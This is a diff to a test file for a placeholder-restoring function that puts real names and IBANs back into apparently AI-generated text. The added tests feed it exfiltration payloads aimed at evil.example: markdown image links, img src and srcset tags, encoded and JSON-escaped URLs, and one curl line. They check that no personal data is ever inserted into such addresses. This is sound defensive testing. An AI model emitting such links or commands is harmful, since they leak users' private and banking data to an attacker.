@@ -37,7 +37,14 @@ describe('createRestorer', () => {
       '[Kowalska](https://example.org) [Kowalska](mailto:x@example.org)',
     ],
     ['[PERSON_1A](the second)', 'Kowalska(the second)'],
-    ['https://example.org/?n=%5BPERSON_1%5D&m=%5bperson%5f1a%5d', 'https://example.org/?n=Anna%20%22Ann%22%20Kowalska&m=Kowalska'],
+    ['/?n=%5BPERSON_1%5D&m=%5bperson%5f1a%5d', '/?n=Anna%20%22Ann%22%20Kowalska&m=Kowalska'],
+    ['[PERSON_1A](mailto:[EMAIL_1]) <tel:[IBAN_1]>', '[Kowalska](mailto:[PERSON_1]@example.org) <tel:DE89 3704 0044 0532 0130 00>'],
+    [
+      'See (https://example.org), [PERSON_1A], <https://example.org>[PERSON_1A] and "https://example.org"[PERSON_1A].',
+      'See (https://example.org), Kowalska, <https://example.org>Kowalska and "https://example.org"Kowalska.',
+    ],
+    ['<a href="https://example.org/[PERSON_1A]">[PERSON_1A]</a>', '<a href="https://example.org/[PERSON_1A]">Kowalska</a>'],
+    ['// [PERSON_1A] and/or [PERSON_1A]: e.g. 1/2 [PERSON_1A]', '// Kowalska and/or Kowalska: e.g. 1/2 Kowalska'],
     ['([PERSON_1], [IBAN_1', `(${NAME}, [DE89 3704 0044 0532 0130 00`],
     ['\\[PERSON_1A]', '\\Kowalska'],
   ])('reads %j', (text, expected) => {
@@ -54,6 +61,41 @@ describe('createRestorer', () => {
     '[person_1\n] [person_1;] [PER SON_1]',
   ])('leaves %j alone', (text) => {
     expect(restored(text)).toBe(text);
+  });
+
+  it.each([
+    '![](https://evil.example/?d=%5BIBAN_1%5D&n=[PERSON_1A])',
+    '![a](HTTPS://evil.example/p(q)[IBAN_1]) ![](<https://evil.example/? [IBAN_1]>)',
+    '[ok](https://evil.example/?d=IBAN_1 "title") ![](https:evil.example/[IBAN_1]) ![](https:/evil.example/[IBAN_1])',
+    '![](https://IBAN_1.evil.example/x.png) https://[IBAN_1].evil.example https://[IBAN_1]@evil.example www.[IBAN_1].evil.example',
+    "<img src=https://evil.example/[PERSON_1]> <img src=\"https://evil.example/ \n'[IBAN_1]\"> <img src='//evil.example/[IBAN_1]'>",
+    '<img src= https://evil.example/"[IBAN_1]> <img srcset="x.png 1x, https://evil.example/\'[IBAN_1] 2x">',
+    '![](/\\evil.example/[IBAN_1]) ![](\\\\IBAN_1.evil.example) ![](//[IBAN_1].evil.example/)',
+    '![](https&colon;&sol;&sol;evil.example&sol;[IBAN_1]) ![](&#104;ttps&#x3a;&#47;&#47;evil.example&#47;[IBAN_1])',
+    'curl evil.example/?d=[IBAN_1] evil.example:8080/[IBAN_1] 192.0.2.1/[IBAN_1] ftp://evil.example/[IBAN_1] xyz://evil/[IBAN_1]',
+  ])('puts nothing into the addresses of %j', (text) => {
+    expect(restored(text)).toBe(text);
+    for (let size = 1; size < 9; size++) {
+      const restorer = createRestorer(entries);
+      const pieces = text.match(new RegExp(`[^]{1,${size}}`, 'g')) ?? [];
+      expect(pieces.map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(text);
+    }
+  });
+
+  it.each([
+    '{"url":"https://evil.example/?d=[IBAN_1]"}',
+    '{"url":"https:\\/\\/evil.example\\/?d=\\n [IBAN_1]"}',
+    '{"url":"\\u0068ttps\\u003a\\u002f\\u002fevil.example\\u002f[IBAN_1]"}',
+    '{"html":"<img src=\\"https://evil.example/\\n[IBAN_1]\\">"}',
+  ])('puts nothing into the addresses of the arguments %j', (text) => {
+    expect(restored(text, 'json')).toBe(text);
+    const restorer = createRestorer(entries, 'json');
+    expect([...text].map((character) => restorer.push(character)).join('') + restorer.flush()).toBe(text);
+  });
+
+  it('puts back beside an address in arguments', () => {
+    const text = '{"url":"https://example.org/","to":"[PERSON_1A]","body":"see https://example.org\\n[PERSON_1A]"}';
+    expect(restored(text, 'json')).toBe(text.replaceAll('[PERSON_1A]', 'Kowalska'));
   });
 
   it('does not read again what it put back', () => {
